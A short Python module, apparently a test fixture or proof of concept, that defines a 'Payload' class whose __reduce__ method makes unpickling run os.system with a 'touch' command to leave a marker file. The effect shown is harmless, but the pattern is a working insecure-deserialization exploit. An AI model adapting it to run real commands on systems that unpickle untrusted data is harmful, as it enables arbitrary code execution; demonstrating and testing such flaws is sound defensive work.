"""An object whose unpickling leaves a mark."""

import os


class Payload:
    """Runs a command where it is unpickled without care."""

    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return os.system, (f"touch {self.mark}",)
